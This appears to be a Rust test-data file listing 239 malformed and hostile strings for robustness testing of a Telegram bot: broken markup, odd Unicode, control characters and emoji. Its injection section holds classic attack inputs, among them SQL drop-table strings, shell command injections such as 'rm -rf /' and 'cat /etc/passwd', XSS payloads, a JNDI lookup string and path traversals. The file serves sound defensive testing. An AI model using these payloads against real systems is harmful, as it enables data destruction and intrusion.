//! Strings that have broken things elsewhere, to go wherever a string can.

/// The strings, by kind. No two are the same.
#[rustfmt::skip]
pub const HOSTILE: [&str; 239] = [
    // Markup of Telegram's, whole and broken.
    "<b>bold</b>", "<b>never closed", "closed</b> only", "<b><i>crossed</b></i>",
    "<a href=\"https://x.example\">link</a>", "<a href='javascript:alert(1)'>x</a>", "<a href=\">\">",
    "<tg-spoiler>no</tg-spoiler>", "<tg-emoji emoji-id=\"1\">x</tg-emoji>",
    "<pre><code class=\"language-rust\">fn</code></pre>", "<blockquote expandable>q</blockquote>",
    "<span class=\"tg-spoiler\">s</span>", "<B>LOUD</B>", "< b >spaced</ b >", "<b", "<", ">", "<>",
    "</>", "<<>>", "<!-- -->", "<![CDATA[x]]>", "<?xml version=\"1.0\"?>", "<!DOCTYPE html>",
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>",
    "<u><u><u><u><u>deep", "*bold* _italic_ `code`", "**_*_**", "[text](https://x.example)",
    "[a](tg://user?id=1)", "||spoiler||", "```\ncode", "\\*\\_\\[\\]", "~strike~ >quote\n>more", "___",
    "!#+-=|{}.()",
    // Entities.
    "&amp;", "&lt;b&gt;", "&quot;&apos;", "&nbsp;", "&", "&&", "&;", "&#0;", "&#x0;", "&#xD800;",
    "&#xDFFF;", "&#x110000;", "&#99999999999;", "&#60;b&#62;", "&lt", "&amp;lt;b&amp;gt;", "&unknown;",
    "&#x1F4A5;", "&#-1;", "AT&T &copy 2024",
    // Directions, invisible and combining characters.
    "\u{202e}esrever", "\u{202d}forward\u{202c}", "\u{2066}isolated\u{2069}", "\u{2067}never ended",
    "\u{200f}\u{200e}",
    "\u{645}\u{631}\u{62d}\u{628}\u{627} \u{628}\u{627}\u{644}\u{639}\u{627}\u{644}\u{645}",
    "\u{5e9}\u{5dc}\u{5d5}\u{5dd} \u{5e2}\u{5d5}\u{5dc}\u{5dd}", "abc \u{5d0}\u{5d1}\u{5d2} 123 abc",
    "\u{61c}", "\u{200b}", "zero\u{200b}width\u{200b}spaces", "\u{200c}\u{200d}", "\u{feff}bom",
    "word\u{2060}joiner", "\u{ad}soft\u{ad}hyphen", "\u{34f}", "\u{115f}\u{1160}", "\u{3164}",
    "\u{ffa0}", "\u{180e}", "\u{e0001}\u{e0041}", "\u{fe0f}\u{fe0e}", "e\u{301}", "\u{301}",
    "\u{301}\u{301}\u{301} alone",
    "Z\u{351}\u{36b}\u{343}\u{36a}\u{302}\u{36b}\u{33d}\u{34f}\u{334}\u{319}\u{324}\u{31e}\u{349}\u{35a}\u{32f}\u{31e}\u{320}\u{34d}A\u{36b}\u{357}\u{334}\u{362}\u{335}\u{31c}\u{330}\u{354}L\u{368}\u{367}\u{369}\u{358}\u{320}G\u{311}\u{357}\u{30e}\u{305}\u{35b}\u{341}\u{334}\u{33b}\u{348}\u{34d}\u{354}\u{339}O\u{342}\u{30c}\u{30c}\u{358}\u{328}\u{335}\u{339}\u{33b}\u{31d}\u{333}",
    "नमस\u{94d}त\u{947}",
    "ก\u{e47}\u{e47}\u{e47}\u{e47}\u{e47}\u{e47}\u{e47}\u{e47}\u{e47}\u{e47}\u{e47}\u{e47}\u{e47}\u{e47}\u{e47}\u{e47}\u{e47}\u{e47}\u{e47}\u{e47}",
    "한글 한", "i\u{307}İıI", "ßẞſ", "ﬁﬂﬃ", "ÅÅA\u{30a}",
    // Control characters and what is no character.
    "\u{0}", "nul\u{0}inside", "\u{1}\u{2}\u{3}\u{4}\u{5}\u{6}\u{7}", "\u{8}\u{8}\u{8}erased",
    "\u{1b}[31mred\u{1b}[0m", "\u{1b}]0;title\u{7}", "\u{7f}", "\u{80}\u{9f}", "\u{85}", "�",
    "\u{fffe}\u{ffff}", "\u{fdd0}", "\u{10ffff}", "\u{e000}", "\u{fff9}a\u{fffa}b\u{fffb}", "\\ud800",
    "\\udc00\\ud800", "\\u0000", "%ED%A0%80", "\\x00\\xff",
    // Emoji.
    "💥", "👨\u{200d}👩\u{200d}👧\u{200d}👦", "🏳\u{fe0f}\u{200d}🌈",
    "🏴\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}", "👍🏽", "🏽", "🇺", "🇺🇦🇺",
    "1\u{fe0f}\u{20e3}", "\u{20e3}", "👩\u{200d}", "\u{200d}👩", "❤\u{fe0f}\u{200d}🔥", "☺\u{fe0e}",
    "🧑🏿\u{200d}🤝\u{200d}🧑🏻",
    // Injections.
    "'; DROP TABLE inbox; --", "' OR '1'='1", "1; DELETE FROM outbox", "\" OR \"\"=\"", "$1", "?1",
    ":name", "@p1", "1/**/UNION/**/SELECT/**/1", "\\'; --", "$(reboot)", "`reboot`", "; rm -rf / #",
    "| cat /etc/passwd", "&& exit 1", "${HOME}", "%PATH%", "$((1/0))", "> /dev/null 2>&1", "{{7*7}}",
    "{%for%}", "<%= 1 %>", "%s%s%s%n", "%99999999d", "{}", "{0}", "{:?}", "{{}}",
    "${jndi:ldap://x.example/a}", "{ $count -> [one] 1 *[other] 2 }", "{ -term.attribute }", "{\"a\":",
    "\"}],\"ok\":false", "[[[[[[[[", "null", "\\\"", "\\",
    // Addresses, commands and mentions.
    "https://x.example/?q=<b>&a=\"'", "http://[::1]:80/", "http://\u{202e}example.moc/",
    "https://xn--80ak6aa92e.com", "tg://resolve?domain=x", "javascript:alert(1)",
    "data:text/html,<b>x</b>", "file:///etc/passwd", "ana@example.org", "//x.example", "/start",
    "/START q_", "/start q_../../x", "/faq@attache_test_bot", "a /faq@other_bot", "/", "//", "/ /",
    "/ask /ask /ask", "@attache_test_bot", "@attache_test_bot@attache_test_bot", "@", "@everyone",
    "#tag $TAG", "q:", "faq:0x1F", "../../../../etc/passwd", "..\\..\\windows", "C:\\con\\nul",
    "CON.txt",
    // Numbers.
    "0", "-0", "NaN", "-inf", "1e999", "0x7fffffffffffffff", "9223372036854775808",
    "-9223372036854775809", "1,000.00", "١٢٣", "½²Ⅷ", "१२३", "٪∞",
    // White space and width.
    " ", "\t\n\r", "a\r\nb\rc\nd", "\u{a0}", "\u{2003}\u{2009}\u{202f}", "\u{3000}", "\u{2028}\u{2029}",
    "\u{b}\u{c}", "\u{1680}", "\u{2800}", "\n\n\n\n\n\n\n\nlow", "  both  ends  ", "ｆｕｌｌ\u{3000}ｗｉｄｔｈ",
    "ﾊﾝｶｸ", "＜ｂ＞", "＆ａｍｐ；", "𝕱𝖗𝖆𝖐𝖙𝖚𝖗", "ⓒⓘⓡⓒⓛⓔ", "中国中立吗？", "Ⅸ㈠㍿",
    // Long and empty-looking words.
    "Donaudampfschiffahrtselektrizitätenhauptbetriebswerkbauunterbeamtengesellschaft",
    "Llanfairpwllgwyngyllgogerychwyrndrobwllllantysiliogogogoch",
    "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
    "!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!",
    "<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<",
    "&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&",
    "\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}",
    "🙂🙂🙂🙂🙂🙂🙂🙂🙂🙂🙂🙂🙂🙂🙂🙂🙂🙂🙂🙂🙂🙂🙂🙂🙂🙂🙂🙂🙂🙂🙂🙂🙂🙂🙂🙂🙂🙂🙂🙂🙂🙂🙂🙂🙂🙂🙂🙂🙂🙂🙂🙂🙂🙂🙂🙂🙂🙂🙂🙂", "()[]{}", "...", "-", "\"\"", "''",
];
